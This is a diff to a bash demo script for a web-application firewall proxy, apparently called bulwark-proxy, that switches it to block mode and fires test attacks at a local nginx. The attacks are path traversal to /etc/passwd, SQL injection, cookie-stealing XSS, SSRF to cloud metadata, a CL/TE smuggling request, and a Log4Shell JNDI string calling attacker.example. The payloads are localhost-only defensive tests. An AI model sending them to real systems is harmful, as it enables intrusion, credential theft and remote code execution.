@@ -1,7 +1,7 @@
 #!/usr/bin/env bash
-# The main job, for now: a real app (nginx) behind bulwark-proxy on this machine, a few requests
-# through it, the proxy's metrics, then a graceful SIGTERM drain. `--keep` leaves both running
-# until Ctrl-C.
+# The main job, for now: a real app (nginx) behind bulwark-proxy (block mode) on this machine:
+# clean requests pass, attacks get 403 and an event line, a smuggling attempt is refused, the
+# metrics show it all, then a graceful SIGTERM drain. `--keep` leaves both running until Ctrl-C.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 ROOT=$(pwd)
@@ -50,7 +50,8 @@ step "app: nginx on 127.0.0.1:$APP_PORT"
 nginx -c "$WORK/app.conf" -p "$WORK" & APP_PID=$!
 step "bulwark-proxy on 127.0.0.1:$PROXY_PORT -> 127.0.0.1:$APP_PORT (status :$STATUS_PORT)"
 "$PROXY" --listen "127.0.0.1:$PROXY_PORT" --status-listen "127.0.0.1:$STATUS_PORT" \
-  --app-port "$APP_PORT" --mode monitoring 2> >(tee "$WORK/proxy.log" >&2) & PROXY_PID=$!
+  --app-port "$APP_PORT" --mode block > >(tee "$WORK/events.log") 2> >(tee "$WORK/proxy.log" >&2) &
+PROXY_PID=$!
 for _ in $(seq 1 50); do
   curl -fs "http://127.0.0.1:$STATUS_PORT/readyz" >/dev/null 2>&1 && break
   sleep 0.1
@@ -68,10 +69,21 @@ printf 'name=demo&comment=hello' | curl -s -H 'Transfer-Encoding: chunked' --dat
 step "A smuggling attempt (Content-Length + Transfer-Encoding) is refused"
 printf 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' |
   timeout 5 python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",'"$PROXY_PORT"')); s.sendall(sys.stdin.buffer.read()); print(s.recv(4096).decode(errors="replace"))'
-step "GET /etc/passwd (detection arrives with the detection engine; today it is forwarded)"
-curl -s -o /dev/null -w 'status %{http_code}\n' "http://127.0.0.1:$PROXY_PORT/etc/passwd"
+step "Attacks are answered 403 before the app sees them (attack events are JSON lines on stdout)"
+for target in "/etc/passwd" "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" \
+              "/?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E" \
+              "/api/items?url=http://169.254.169.254/latest/meta-data/"; do
+  printf '%-70s -> ' "GET $target"
+  curl -s -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$PROXY_PORT$target"
+done
+printf '%-70s -> ' "POST /api/login (JSON body with Log4Shell)"
+curl -s -o /dev/null -w '%{http_code}\n' -H 'Content-Type: application/json' \
+  --data '{"user":"${jndi:ldap://attacker.example/a}","password":"x"}' "http://127.0.0.1:$PROXY_PORT/api/login"
+printf '%-70s -> ' "GET /api/items?q=select+the+best+option (benign, SQL-like English)"
+curl -s -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$PROXY_PORT/api/items?q=select+the+best+option"
+sleep 0.2
 step "metrics (excerpt)"
-curl -s "http://127.0.0.1:$STATUS_PORT/metrics" | grep -E '^bulwark_(requests_total|connections_total|upstream_reused_total|bad_requests_total\{reason="te_cl"\})'
+curl -s "http://127.0.0.1:$STATUS_PORT/metrics" | grep -E '^bulwark_(requests_total|connections_total|upstream_reused_total|bad_requests_total\{reason="te_cl"\}|attacks_total.* [1-9])'
 
 if [ "$KEEP" = 1 ]; then
   step "running; try: curl http://127.0.0.1:$PROXY_PORT/  (Ctrl-C to stop)"
